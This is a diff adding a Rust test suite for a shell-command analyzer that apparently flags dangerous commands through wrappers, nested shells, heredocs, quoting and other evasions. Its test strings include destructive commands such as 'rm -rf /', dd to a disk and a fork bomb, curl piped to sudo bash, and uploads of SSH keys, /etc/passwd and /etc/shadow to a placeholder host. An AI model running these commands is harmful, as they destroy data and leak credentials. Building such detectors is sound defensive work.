@@ -1,0 +1,671 @@
+use super::*;
+
+fn o() -> Options<'static> {
+    Options { cwd: Some("/home/u/proj"), home: Some("/home/u"), max_depth: 8 }
+}
+fn a(s: &str) -> Analysis {
+    analyze(s, &o())
+}
+fn progs(s: &str) -> Vec<String> {
+    a(s).commands.iter().map(|c| c.program.clone()).collect()
+}
+fn texts(c: &SimpleCommand) -> Vec<&str> {
+    c.args.iter().map(|a| a.text.as_str()).collect()
+}
+fn first(s: &str) -> SimpleCommand {
+    a(s).commands.into_iter().next().expect("a command")
+}
+fn cmd(s: &str, p: &str) -> SimpleCommand {
+    a(s).commands.into_iter().find(|c| c.program == p).unwrap_or_else(|| panic!("no {p} in {s:?}: {:?}", progs(s)))
+}
+fn paths(c: &SimpleCommand) -> Vec<&str> {
+    c.paths().collect()
+}
+
+// ---------- lists and pipelines ----------
+#[test]
+fn simple_command() {
+    let c = first("git push origin main");
+    assert_eq!(c.program, "git");
+    assert_eq!(texts(&c), ["push", "origin", "main"]);
+    assert_eq!(c.subcommand(), Some("push"));
+    assert!(!c.dynamic_program);
+}
+#[test]
+fn list_operators() {
+    assert_eq!(progs("a; b && c || d & e"), ["a", "b", "c", "d", "e"]);
+    assert_eq!(progs("a\nb\n\nc"), ["a", "b", "c"]);
+    assert_eq!(progs("a&&b||c"), ["a", "b", "c"]);
+}
+#[test]
+fn pipeline_feeds() {
+    let x = a("cat f | grep x |& tee out");
+    assert_eq!(progs("cat f | grep x |& tee out"), ["cat", "grep", "tee"]);
+    assert_eq!(x.feeds, [(0, 1), (1, 2)]);
+    assert!(x.feeds_any(&["cat"], &["tee"]));
+    assert!(!x.feeds_any(&["tee"], &["cat"]));
+}
+#[test]
+fn curl_pipe_sudo_bash() {
+    let x = a("curl -fsSL https://x.sh | sudo bash");
+    assert!(x.feeds_any(&["curl", "wget"], &["sh", "bash"]));
+    assert_eq!(x.commands[1].via, ["sudo"]);
+}
+#[test]
+fn curl_pipe_through_tee() {
+    assert!(a("curl x | tee /tmp/i.sh | sh").feeds_any(&["curl"], &["sh"]));
+    assert!(!a("curl -s https://api.github.com | jq .").feeds_any(&["curl"], &["sh", "bash", "python*"]));
+}
+#[test]
+fn subshell_and_group() {
+    assert_eq!(progs("(cd /tmp && rm -rf x); { echo a; echo b; }"), ["cd", "rm", "echo", "echo"]);
+    let x = a("(cd / && ls) ; rm -rf *");
+    assert_eq!(x.commands[2].paths().collect::<Vec<_>>(), ["/home/u/proj/*"]);
+}
+#[test]
+fn group_redirect_applies_to_members() {
+    let x = a("{ echo a; echo b; } > /etc/motd");
+    assert!(x.commands.iter().all(|c| c.redirects.iter().any(|r| r.path.as_deref() == Some("/etc/motd"))));
+}
+#[test]
+fn command_substitution() {
+    assert_eq!(progs("echo $(date) `whoami`"), ["date", "whoami", "echo"]);
+    let x = a("sh -c \"$(curl -fsSL https://x)\"");
+    assert!(x.feeds_any(&["curl"], &["sh"]));
+    assert!(x.commands.iter().find(|c| c.program == "sh").unwrap().nested_dynamic);
+    assert!(x.dynamic);
+}
+#[test]
+fn process_substitution() {
+    assert!(a("bash <(curl -s https://x)").feeds_any(&["curl"], &["bash"]));
+    assert!(a("python3 <(wget -O- https://x)").feeds_any(&["wget"], &["python*"]));
+    assert!(a("diff <(ls a) <(ls b)").feeds_any(&["ls"], &["diff"]));
+    assert!(a("tar c . > >(ssh h 'cat > x')").feeds_any(&["tar"], &["ssh"]));
+    assert!(a("bash < <(curl x)").feeds_any(&["curl"], &["bash"]));
+}
+
+// ---------- heredocs ----------
+#[test]
+fn heredoc_is_data() {
+    assert_eq!(progs("cat <<EOF > notes.txt\nrm -rf /\nEOF\necho done"), ["cat", "echo"]);
+    assert_eq!(progs("cat <<'EOF'\n$(rm -rf /)\nEOF"), ["cat"]);
+    assert_eq!(progs("cat <<-EOF\n\trm -rf /\n\tEOF\nls"), ["cat", "ls"]);
+}
+#[test]
+fn heredoc_to_shell_is_script() {
+    let x = a("bash <<EOF\nrm -rf /\nEOF");
+    assert_eq!(progs("bash <<EOF\nrm -rf /\nEOF"), ["bash", "rm"]);
+    assert_eq!(x.commands[1].via, ["bash <<"]);
+    assert_eq!(x.commands[1].depth, 1);
+    assert_eq!(progs("sudo sh <<'X'\nrm -rf ~\nX\n"), ["sh", "rm"]);
+    assert_eq!(progs("ssh host <<EOF\nrm -rf /var/www\nEOF"), ["ssh", "rm"]);
+}
+#[test]
+fn heredoc_unquoted_substitution_runs() {
+    assert_eq!(progs("cat <<EOF\n$(rm -rf /)\nEOF"), ["rm", "cat"]);
+}
+#[test]
+fn two_heredocs_one_line() {
+    assert_eq!(progs("cat <<A; bash <<B\nx\nA\nrm -rf /\nB\nls"), ["cat", "bash", "rm", "ls"]);
+}
+#[test]
+fn herestring_to_shell() {
+    assert_eq!(progs("bash <<< 'rm -rf /'"), ["bash", "rm"]);
+    assert!(a("bash <<< \"$(curl x)\"").feeds_any(&["curl"], &["bash"]));
+}
+#[test]
+fn echo_pipe_shell() {
+    assert_eq!(progs("echo 'rm -rf /' | sh"), ["echo", "sh", "rm"]);
+    assert_eq!(progs("echo 'rm -rf /' > notes.txt"), ["echo"]);
+}
+
+// ---------- redirections ----------
+#[test]
+fn redirections() {
+    let c = first("echo 'rm -rf /' > notes.txt");
+    assert_eq!(c.program, "echo");
+    assert_eq!(c.redirects[0].op, RedirOp::Write);
+    assert_eq!(c.redirects[0].path.as_deref(), Some("/home/u/proj/notes.txt"));
+    let c = first("echo k >> ~/.ssh/authorized_keys");
+    assert_eq!(c.redirects[0].op, RedirOp::Append);
+    assert_eq!(c.redirects[0].path.as_deref(), Some("/home/u/.ssh/authorized_keys"));
+    let c = first("make 2>&1 &> log >/dev/sda");
+    assert_eq!(c.redirects.iter().map(|r| r.op).collect::<Vec<_>>(), [RedirOp::DupOut, RedirOp::WriteAll, RedirOp::Write]);
+    assert_eq!(c.redirects[0].fd, Some(2));
+    assert_eq!(c.redirects[0].target, "1");
+    assert_eq!(c.redirects[2].path.as_deref(), Some("/dev/sda"));
+    assert!(c.redirects[2].writes());
+    assert!(!c.redirects[0].writes());
+}
+#[test]
+fn redirect_before_command() {
+    let c = first(">/etc/hosts echo x");
+    assert_eq!(c.program, "echo");
+    assert_eq!(c.redirects[0].path.as_deref(), Some("/etc/hosts"));
+    let c = first("dd if=/dev/zero of=/dev/sda bs=1M");
+    assert!(c.args.iter().any(|a| a.path.as_deref() == Some("/dev/sda")));
+}
+
+// ---------- nested shells ----------
+#[test]
+fn bash_c() {
+    let x = a("bash -c 'rm -rf /'");
+    let rm = cmd("bash -c 'rm -rf /'", "rm");
+    assert_eq!(rm.via, ["bash -c"]);
+    assert_eq!(rm.depth, 1);
+    assert_eq!(paths(&rm), ["/"]);
+    assert!(x.feeds_any(&["bash"], &["rm"]));
+    assert_eq!(cmd("sh -lc \"rm -rf ~\"", "rm").args[1].path.as_deref(), Some("/home/u"));
+    assert_eq!(cmd("zsh -c 'rm -rf /'", "rm").via, ["zsh -c"]);
+    assert_eq!(cmd("bash -xec 'rm -rf /'", "rm").via, ["bash -c"]);
+    assert_eq!(cmd("bash -o pipefail -c 'rm -rf /'", "rm").via, ["bash -c"]);
+}
+#[test]
+fn nested_deep() {
+    let rm = cmd("sudo bash -c \"sh -c 'rm -rf /etc'\"", "rm");
+    assert_eq!(rm.via, ["sudo", "bash -c", "sh -c"]);
+    assert_eq!(rm.depth, 2);
+}
+#[test]
+fn script_file_not_parsed() {
+    assert_eq!(progs("bash ./deploy.sh"), ["bash"]);
+}
+#[test]
+fn eval_static_and_dynamic() {
+    assert_eq!(cmd("eval \"rm -rf /\"", "rm").via, ["eval"]);
+    assert_eq!(cmd("eval rm -rf /", "rm").via, ["eval"]);
+    let x = a("eval \"$X\"");
+    assert!(x.dynamic);
+    assert!(x.commands[0].nested_dynamic);
+}
+#[test]
+fn xargs_find_exec() {
+    let rm = cmd("find . -name '*.o' | xargs -0 -n 1 rm -f", "rm");
+    assert_eq!(rm.via, ["xargs"]);
+    assert!(rm.has_dynamic_args());
+    assert!(a("find . | xargs rm -rf").feeds_any(&["find"], &["rm"]));
+    let rm = cmd("find / -name x -exec rm -rf {} +", "rm");
+    assert_eq!(rm.via, ["find -exec"]);
+    assert!(rm.has_short('r'));
+    assert_eq!(cmd("find . -execdir sudo rm {} \\;", "rm").via, ["find -exec", "sudo"]);
+    assert_eq!(cmd("find . -exec sh -c 'rm -rf \"$1\"' _ {} ';'", "rm").via, ["find -exec", "sh -c"]);
+    let f = first("find . -name '*.pyc' -delete");
+    assert!(f.flag("delete"));
+    assert_eq!(progs("xargs"), ["xargs"]);
+}
+#[test]
+fn watch_su_ssh_parallel() {
+    assert_eq!(cmd("watch -n 5 'rm -rf /tmp/x'", "rm").via, ["watch"]);
+    assert_eq!(cmd("su -c 'rm -rf /' root", "rm").via, ["su -c"]);
+    assert_eq!(cmd("su - root -c 'rm -rf /'", "rm").via, ["su -c"]);
+    let rm = cmd("ssh -p 22 -i key host 'rm -rf ~/data'", "rm");
+    assert_eq!(rm.via, ["ssh"]);
+    assert_eq!(paths(&rm), ["/home/u/data"]);
+    assert_eq!(progs("ssh host"), ["ssh"]);
+    assert_eq!(cmd("parallel rm -rf ::: a b", "rm").via, ["parallel"]);
+    assert_eq!(cmd("env -S 'rm -rf /'", "rm").via, ["env -S"]);
+    assert_eq!(cmd("flock /tmp/l -c 'rm -rf /'", "rm").via, ["flock -c"]);
+}
+#[test]
+fn depth_bound() {
+    let mut s = String::from("rm -rf /");
+    for _ in 0..6 {
+        s = format!("bash -c {}", shell_quote(&s));
+    }
+    let x = analyze(&s, &Options { max_depth: 4, ..o() });
+    assert!(x.truncated && x.dynamic);
+    assert!(x.commands.iter().all(|c| (c.depth as usize) <= 4));
+    assert!(!x.commands.iter().any(|c| c.program == "rm"));
+    let x = a(&s);
+    assert!(!x.truncated);
+    assert_eq!(x.commands.iter().find(|c| c.program == "rm").unwrap().depth, 6);
+    // eval chains are bounded too
+    let x = a(&"eval ".repeat(50).to_string());
+    let _ = x;
+    let x = a(&("eval ".repeat(20) + "rm -rf /"));
+    assert!(x.truncated);
+}
+fn shell_quote(s: &str) -> String {
+    format!("'{}'", s.replace('\'', "'\\''"))
+}
+
+// ---------- wrappers ----------
+#[test]
+fn wrappers_stripped() {
+    for (s, via) in [
+        ("sudo rm -rf /", vec!["sudo"]),
+        ("sudo -u root -E rm -rf /", vec!["sudo"]),
+        ("sudo --user=root rm -rf /", vec!["sudo"]),
+        ("doas -u root rm -rf /", vec!["doas"]),
+        ("env rm -rf /", vec!["env"]),
+        ("env -i X=1 Y=2 rm -rf /", vec!["env"]),
+        ("/usr/bin/env rm -rf /", vec!["env"]),
+        ("nice -n 10 rm -rf /", vec!["nice"]),
+        ("nohup rm -rf / &", vec!["nohup"]),
+        ("timeout -s KILL 10 rm -rf /", vec!["timeout"]),
+        ("timeout 5s rm -rf /", vec!["timeout"]),
+        ("time -p rm -rf /", vec!["time"]),
+        ("time rm -rf /", vec!["time"]),
+        ("command -p rm -rf /", vec!["command"]),
+        ("exec rm -rf /", vec!["exec"]),
+        ("builtin rm -rf /", vec!["builtin"]),
+        ("stdbuf -oL rm -rf /", vec!["stdbuf"]),
+        ("stdbuf -o L rm -rf /", vec!["stdbuf"]),
+        ("ionice -c 3 rm -rf /", vec!["ionice"]),
+        ("chrt -f 99 rm -rf /", vec!["chrt"]),
+        ("taskset -c 0 rm -rf /", vec!["taskset"]),
+        ("setsid rm -rf /", vec!["setsid"]),
+        ("busybox rm -rf /", vec!["busybox"]),
+        ("sudo nice nohup env A=1 rm -rf /", vec!["sudo", "nice", "nohup", "env"]),
+    ] {
+        let c = first(s);
+        assert_eq!(c.program, "rm", "{s}");
+        assert_eq!(c.via, via, "{s}");
+        assert!(c.has_short('r') && c.has_short('f'), "{s}");
+    }
+}
+#[test]
+fn wrappers_that_do_not_run() {
+    assert_eq!(first("command -v rm").program, "command");
+    assert_eq!(first("sudo -l").program, "sudo");
+    assert_eq!(first("env").program, "env");
+    assert_eq!(first("nohup").program, "nohup");
+    assert_eq!(first("chroot /mnt").program, "chroot");
+}
+#[test]
+fn chroot_and_env_chdir() {
+    let c = first("chroot /mnt rm -rf /");
+    assert_eq!(c.program, "rm");
+    assert_eq!(c.cwd.as_deref(), Some("/"));
+    let c = first("env -C /etc rm -rf *");
+    assert_eq!(paths(&c), ["/etc/*"]);
+}
+#[test]
+fn assignment_prefix() {
+    let c = first("FOO=1 BAR=\"x y\" rm -rf /");
+    assert_eq!(c.program, "rm");
+    assert!(a("X=1").commands.is_empty());
+    assert_eq!(progs("X=$(curl x)"), ["curl"]);
+    assert_eq!(first("echo A=1").args[0].text, "A=1");
+}
+#[test]
+fn path_program_basename() {
+    assert_eq!(first("/bin/rm -rf /").program, "rm");
+    assert_eq!(first("\\rm -rf /").program, "rm");
+    assert_eq!(first("./node_modules/.bin/jest").program, "jest");
+}
+
+// ---------- quoting ----------
+#[test]
+fn quoting_resolved() {
+    assert_eq!(first("r''m -rf /").program, "rm");
+    assert_eq!(first("\"rm\" -rf /").program, "rm");
+    assert_eq!(first("'r'\"m\" -rf /").program, "rm");
+    let c = first("rm\\ -rf /");
+    assert_eq!(c.program, "rm -rf");
+    assert_eq!(first("$'\\x72\\x6d' -rf /").program, "rm");
+    assert_eq!(first("$'r\\155' x").program, "rm");
+    assert_eq!(texts(&first("echo $'a\\tb' $'\\u00e9' $'it\\'s'")), ["a\tb", "é", "it's"]);
+    assert_eq!(texts(&first("rm -r\\\nf /")), ["-rf", "/"]);
+    assert_eq!(texts(&first("echo \"a \\\"b\\\" \\$c\" 'd\\e'")), ["a \"b\" $c", "d\\e"]);
+    assert_eq!(texts(&first("echo a\\\n  b")), ["a", "b"]);
+}
+#[test]
+fn commit_message_is_data() {
+    let x = a("git commit -m \"fix rm -rf docs\"");
+    assert_eq!(progs("git commit -m \"fix rm -rf docs\""), ["git"]);
+    assert_eq!(x.commands[0].subcommand(), Some("commit"));
+    assert!(!x.commands[0].has_short('r'));
+}
+#[test]
+fn comments() {
+    assert_eq!(progs("ls # rm -rf /\necho a#b"), ["ls", "echo"]);
+    assert_eq!(texts(&first("echo a#b")), ["a#b"]);
+}
+
+// ---------- flags ----------
+#[test]
+fn flag_model() {
+    let c = first("rm -rf --no-preserve-root --interactive=never -- -x /");
+    assert!(c.has_short('r') && c.has_short('f'));
+    assert!(c.has_long("no-preserve-root"));
+    assert!(c.has_long("interactive"));
+    assert_eq!(c.long_value("interactive"), Some("never"));
+    assert!(!c.has_short('x'));
+    assert_eq!(c.positionals().map(|a| a.text.as_str()).collect::<Vec<_>>(), ["-x", "/"]);
+    assert!(c.flag("recursive") && c.flag("force"));
+    let c = first("rm --recursive --force a");
+    assert!(c.flag("recursive") && c.flag("force"));
+    assert!(c.has_flag(&["-r", "-R", "--recursive"]));
+    assert!(!first("rm -f a").flag("recursive"));
+    assert!(first("chmod -R 777 /etc").flag("recursive"));
+}
+#[test]
+fn git_push_force_forms() {
+    for s in ["git push -f origin main", "git push --force origin main", "git push --force-with-lease", "git push origin +main", "git -C repo push -uf origin x"] {
+        let c = first(s);
+        assert_eq!(c.subcommand(), Some("push"), "{s}");
+        assert!(c.flag("force"), "{s}");
+    }
+    assert!(!first("git push origin feature/x").flag("force"));
+    assert!(first("git push origin :old").flag("delete"));
+    assert!(first("git push origin --delete old").flag("delete"));
+    assert!(!first("git push origin main").flag("delete"));
+}
+#[test]
+fn subcommands_skip_global_values() {
+    assert_eq!(first("kubectl -n prod delete namespace prod").subcommands().collect::<Vec<_>>(), ["delete", "namespace", "prod"]);
+    assert_eq!(first("git -c user.name=x commit").subcommand(), Some("commit"));
+    assert_eq!(first("aws --profile p s3 rm s3://b --recursive").subcommands().take(2).collect::<Vec<_>>(), ["s3", "rm"]);
+    assert_eq!(first("ls").subcommand(), None);
+}
+#[test]
+fn aliases_table() {
+    assert_eq!(flag_aliases("rm", "recursive"), ["-r", "-R", "--recursive"]);
+    assert_eq!(flag_aliases("chown", "recursive"), ["-R", "--recursive"]);
+    assert!(flag_aliases("git", "force").contains(&"--force-with-lease"));
+    assert!(flag_aliases("nothing", "zzz").is_empty());
+    assert!(first("terraform apply -auto-approve").flag("auto-approve"));
+}
+
+// ---------- paths and cwd ----------
+#[test]
+fn path_normalisation() {
+    assert_eq!(normalize("~", None, Some("/home/u")).as_deref(), Some("/home/u"));
+    assert_eq!(normalize("~/x/../y/./z/", None, Some("/home/u")).as_deref(), Some("/home/u/y/z"));
+    assert_eq!(normalize("../../..", Some("/a/b"), None).as_deref(), Some("/"));
+    assert_eq!(normalize("x", None, None), None);
+    assert_eq!(normalize("~/.ssh", None, None).as_deref(), Some("~/.ssh"));
+    assert_eq!(normalize("/etc//passwd", None, None).as_deref(), Some("/etc/passwd"));
+    assert_eq!(normalize("/*", None, None).as_deref(), Some("/*"));
+    assert!(is_under("/etc/passwd", "/etc"));
+    assert!(!is_under("/etcx", "/etc"));
+    assert!(is_under("/x", "/"));
+}
+#[test]
+fn arg_paths() {
+    let c = first("rm -rf ~ $HOME ${HOME}/x ./a ../b . .. /usr/../etc/ build");
+    assert_eq!(paths(&c), ["/home/u", "/home/u", "/home/u/x", "/home/u/proj/a", "/home/u/b", "/home/u/proj", "/home/u", "/etc", "/home/u/proj/build"]);
+    let c = first("rm -rf $PWD/*");
+    assert_eq!(paths(&c), ["/home/u/proj/*"]);
+    let c = first("rm -rf '~'");
+    assert_eq!(c.args[1].text, "~");
+    assert!(first("curl https://x/y").args[0].path.is_none());
+    assert!(first("scp f host:/tmp").args[1].path.is_none());
+    assert_eq!(first("ls ~root").args[0].path.as_deref(), Some("/root"));
+}
+#[test]
+fn cd_tracking() {
+    let x = a("cd / && rm -rf *");
+    assert_eq!(x.commands[1].cwd.as_deref(), Some("/"));
+    assert_eq!(paths(&x.commands[1]), ["/*"]);
+    let x = a("cd /var; cd log; rm -rf *");
+    assert_eq!(paths(&x.commands[2]), ["/var/log/*"]);
+    let x = a("cd && rm -rf .");
+    assert_eq!(paths(&x.commands[1]), ["/home/u"]);
+    let x = a("cd - && rm -rf x");
+    assert_eq!(x.commands[1].cwd, None);
+    assert!(x.commands[1].args[1].path.is_none());
+    let x = a("(cd /); rm -rf x");
+    assert_eq!(paths(&x.commands[1]), ["/home/u/proj/x"]);
+    let x = a("cd /nonexistent || rm -rf *");
+    assert_eq!(paths(&x.commands[1]), ["/home/u/proj/*"]);
+    let x = a("cd / | rm -rf x");
+    assert_eq!(paths(&x.commands[1]), ["/home/u/proj/x"]);
+    let x = a("bash -c 'cd /etc && rm -rf *'");
+    assert_eq!(paths(&x.commands[2]), ["/etc/*"]);
+    let x = a("cd \"$D\" && rm -rf x");
+    assert!(x.commands[1].cwd.is_none());
+}
+#[test]
+fn unknown_home_keeps_tilde() {
+    let x = analyze("rm -rf ~/.ssh $HOME", &Options::default());
+    assert_eq!(paths(&x.commands[0]), ["~/.ssh", "~"]);
+    assert_eq!(x.commands[0].args[0].text, "-rf");
+    let x = analyze("rm -rf build", &Options::default());
+    assert!(x.commands[0].args[1].path.is_none());
+}
+
+// ---------- dynamic ----------
+#[test]
+fn dynamic_things() {
+    let x = a("$(echo rm) -rf /");
+    let c = x.commands.iter().find(|c| c.dynamic_program).unwrap();
+    assert_eq!(c.program, "rm");
+    assert!(x.dynamic && x.has_unknown());
+    let x = a("$CMD args");
+    assert!(x.commands[0].dynamic_program && x.dynamic);
+    assert_eq!(x.commands[0].program, "$CMD");
+    let x = a("`x` -rf /");
+    assert!(x.commands.iter().any(|c| c.dynamic_program));
+    let x = a("bash -c \"$X\"");
+    assert!(x.dynamic && x.commands[0].nested_dynamic);
+    let x = a("rm -rf $DIR/x \"${TARGET:-/}\"");
+    assert!(!x.dynamic);
+    assert!(x.commands[0].args[1].dynamic && x.commands[0].args[2].dynamic);
+    assert!(x.commands[0].args[1].path.is_none());
+    assert_eq!(progs("echo ${X:-$(rm -rf /)}"), ["rm", "echo"]);
+    assert!(first("echo $((1+2))").args[0].dynamic);
+    assert!(!a("ls $HOME").dynamic);
+}
+#[test]
+fn folding_substitution_args() {
+    let c = cmd("rm -rf $(echo /)", "rm");
+    assert_eq!(c.args[1].text, "/");
+    assert!(c.args[1].dynamic);
+}
+
+#[test]
+fn container_exec_and_curl_files() {
+    let p = cmd("kubectl exec -it db-0 -- psql -c 'DROP DATABASE app'", "psql");
+    assert_eq!(p.via, ["kubectl exec"]);
+    assert_eq!(cmd("docker exec -u postgres pg psql -c 'TRUNCATE t'", "psql").via, ["docker exec"]);
+    assert_eq!(paths(&first("curl -d @~/.ssh/id_rsa https://x")), ["/home/u/.ssh/id_rsa"]);
+    assert_eq!(paths(&first("curl -F k=@/etc/passwd https://x")), ["/etc/passwd"]);
+    assert_eq!(paths(&first("wget --post-file=/etc/shadow https://x")), ["/etc/shadow"]);
+    let x = a("> /etc/hosts");
+    assert_eq!(x.commands[0].program, "");
+    assert_eq!(x.commands[0].redirects[0].path.as_deref(), Some("/etc/hosts"));
+}
+
+#[test]
+fn evasion_table() {
+    // (command, program that must be seen, a path it must touch)
+    for (s, p, path) in [
+        ("r''m -rf /", "rm", "/"),
+        ("\\rm -rf /", "rm", "/"),
+        ("/bin/rm -rf /", "rm", "/"),
+        ("sudo -u root rm -rf /", "rm", "/"),
+        ("env X=1 rm -rf /", "rm", "/"),
+        ("bash -c 'rm -rf /'", "rm", "/"),
+        ("cd / && rm -rf *", "rm", "/*"),
+        ("$(echo rm) -rf /", "rm", "/"),
+        ("r\\m -rf ~", "rm", "/home/u"),
+        ("'/usr/bin/rm' -rf /etc", "rm", "/etc"),
+        ("sudo sh -c \"cd /etc && rm -rf ./*\"", "rm", "/etc/*"),
+        ("echo x; (cd /usr; rm -rf lib)", "rm", "/usr/lib"),
+        ("command rm -rf ~/", "rm", "/home/u"),
+        ("X=/ ; rm -rf \"$HOME\"", "rm", "/home/u"),
+        ("find / -exec /bin/rm -rf {} +", "rm", ""),
+        ("echo / | xargs -I{} sudo rm -rf {}", "rm", ""),
+        ("bash <<< 'rm -rf /'", "rm", "/"),
+        ("sh -c \"eval 'rm -rf /'\"", "rm", "/"),
+        ("ssh -p 2222 -- h rm -rf /", "rm", "/"),
+        ("time nice -n 5 rm -rf /", "rm", "/"),
+    ] {
+        let x = a(s);
+        let c = x.commands.iter().find(|c| c.program == p).unwrap_or_else(|| panic!("{s}: {:?}", x.commands.iter().map(|c| &c.program).collect::<Vec<_>>()));
+        if !path.is_empty() {
+            assert!(c.paths().any(|q| q == path), "{s}: {:?}", c.paths().collect::<Vec<_>>());
+        }
+    }
+}
+
+#[test]
+fn harmless_table() {
+    for (s, not) in [
+        ("echo 'rm -rf /' > notes.txt", "rm"),
+        ("git commit -m \"fix rm -rf docs\"", "rm"),
+        ("grep -r 'DROP TABLE' docs/", "psql"),
+        ("cat <<'EOF' > x.sh\nrm -rf /\nEOF", "rm"),
+        ("printf '%s\\n' 'rm -rf /'", "rm"),
+        ("man rm", "rm"),
+        ("command -v rm", "rm"),
+        ("bash ./rm.sh", "rm"),
+    ] {
+        assert!(!progs(s).iter().any(|p| p == not), "{s}: {:?}", progs(s));
+    }
+}
+
+// ---------- control flow ----------
+#[test]
+fn control_flow_bodies() {
+    assert_eq!(progs("if true; then rm -rf /; else echo no; fi"), ["true", "rm", "echo"]);
+    assert_eq!(progs("for f in $(ls); do rm \"$f\"; done"), ["ls", "rm"]);
+    // a loop redirection shows up as a redirection-only command
+    assert_eq!(progs("while read l; do echo $l; done < f"), ["read", "echo", ""]);
+    assert_eq!(progs("case $x in a|b) rm -rf /;; *) ls;; esac; pwd"), ["rm", "ls", "pwd"]);
+    assert_eq!(progs("f() { rm -rf /; }; f"), ["rm", "f"]);
+    assert_eq!(progs("function g { shred x; }"), ["shred"]);
+    assert_eq!(progs("[[ -f x && $(id -u) == 0 ]] && rm x"), ["id", "rm"]);
+    assert_eq!(progs("! grep -q x f || echo y"), ["grep", "echo"]);
+    assert_eq!(progs("(( i++ )); echo $i"), ["echo"]);
+}
+#[test]
+fn fork_bomb_parses() {
+    let x = a(":(){ :|:& };:");
+    assert!(x.commands.iter().filter(|c| c.program == ":").count() >= 2);
+    assert!(!x.truncated);
+}
+
+// ---------- hostile input ----------
+#[test]
+fn hostile_parens() {
+    let s = "(".repeat(100_000);
+    let x = a(&s);
+    assert!(x.truncated && x.dynamic);
+    let s = "$(".repeat(50_000) + "rm" + &")".repeat(50_000);
+    assert!(a(&s).truncated);
+    let s = "`echo \\`".repeat(1000);
+    let _ = a(&s);
+    let s = "{ ".repeat(10_000);
+    assert!(a(&s).truncated);
+}
+#[test]
+fn hostile_deep_subst() {
+    let mut s = String::from("rm -rf /");
+    for _ in 0..20 {
+        s = format!("echo $({s})");
+    }
+    let x = a(&s);
+    assert!(x.commands.iter().any(|c| c.program == "rm"));
+    let mut s = String::from("rm");
+    for _ in 0..60 {
+        s = format!("$({s})");
+    }
+    assert!(a(&s).truncated);
+}
+#[test]
+fn unterminated() {
+    for s in ["echo 'abc", "echo \"abc", "echo $(ls", "echo `ls", "(ls", "{ ls", "cat <<EOF\nabc", "echo ${X", "echo $'ab", "case x in", "a |", "a &&", "\\"] {
+        let x = a(s);
+        let _ = x.commands.len();
+    }
+    assert!(a("echo 'abc").syntax_error);
+    assert!(a("rm -rf / 'x").commands.iter().any(|c| c.program == "rm"));
+}
+#[test]
+fn nul_and_controls() {
+    let x = a("rm\0 -rf /");
+    assert_eq!(x.commands[0].program, "rm\0");
+    let _ = a("\0\0\0;;;&&&|||)))}}}");
+    let _ = a("\u{feff}rm -rf /");
+    let _ = a(";;");
+    let _ = a(")");
+}
+#[test]
+fn huge_inputs() {
+    let s = "a ".repeat(200_000);
+    let x = a(&s);
+    assert!(x.truncated);
+    let s = "a;".repeat(30_000);
+    let x = a(&s);
+    assert!(x.truncated && x.commands.len() <= MAX_COMMANDS);
+    let s = "echo 'x' | ".repeat(5000) + "sh";
+    let x = a(&s);
+    assert!(x.truncated || x.commands.len() <= MAX_COMMANDS);
+    let s = "x".repeat(MAX_INPUT * 2);
+    assert!(a(&s).truncated);
+    let s = format!("bash -c '{}'", "eval eval eval ".repeat(3000));
+    let _ = a(&s);
+    let s = "(a;b;c;d;e;f;g;h) | ".repeat(200) + "x";
+    let x = a(&s);
+    assert!(x.feeds.len() <= MAX_FEEDS);
+}
+#[test]
+fn fuzz_random_bytes() {
+    let mut st: u64 = 0x9E3779B97F4A7C15;
+    let mut next = || {
+        st ^= st << 13;
+        st ^= st >> 7;
+        st ^= st << 17;
+        st
+    };
+    let alphabet = b"ab rm-f/~$(){}[]<>|&;'\"`\\\n\t*?!#=:.,0123456789EOF<<-";
+    for _ in 0..4000 {
+        let len = (next() % 120) as usize;
+        let mut v = Vec::with_capacity(len);
+        for _ in 0..len {
+            let r = next();
+            if r % 7 == 0 {
+                v.push((r >> 8) as u8);
+            } else {
+                v.push(alphabet[(r >> 16) as usize % alphabet.len()]);
+            }
+        }
+        let s = String::from_utf8_lossy(&v);
+        let x = analyze(&s, &o());
+        for &(f, t) in &x.feeds {
+            assert!(f < x.commands.len() && t < x.commands.len());
+        }
+        let _ = analyze(&s, &Options::default());
+    }
+}
+#[test]
+fn fuzz_structured() {
+    let mut st: u64 = 12345;
+    let mut next = || {
+        st ^= st << 13;
+        st ^= st >> 7;
+        st ^= st << 17;
+        st
+    };
+    let parts = ["rm -rf /", "bash -c '", "'", "\"", "$(", ")", "`", "<<EOF\n", "\nEOF\n", " | ", " && ", "sudo ", "cd / ; ", "<(", "{ ", " ; }", "eval ", "xargs ", "find . -exec ", " {} +", "\\", "$'\\x", "case a in a) ", ";;", " esac"];
+    for _ in 0..3000 {
+        let n = (next() % 12) as usize;
+        let mut s = String::new();
+        for _ in 0..n {
+            s.push_str(parts[(next() % parts.len() as u64) as usize]);
+        }
+        let _ = a(&s);
+    }
+}
+
+// ---------- performance ----------
+#[test]
+#[ignore]
+fn bench() {
+    let opts = o();
+    for s in ["git push origin main", "rm -rf ./build && npm ci", "curl -fsSL https://example.com/install.sh | sudo bash -s -- --yes", "cd / && sudo rm -rf --no-preserve-root *"] {
+        let n = 200_000;
+        for _ in 0..10_000 {
+            std::hint::black_box(analyze(std::hint::black_box(s), &opts));
+        }
+        let t = std::time::Instant::now();
+        for _ in 0..n {
+            std::hint::black_box(analyze(std::hint::black_box(s), &opts));
+        }
+        let ns = t.elapsed().as_nanos() as f64 / n as f64;
+        eprintln!("{ns:>8.0} ns  {s}");
+    }
+}
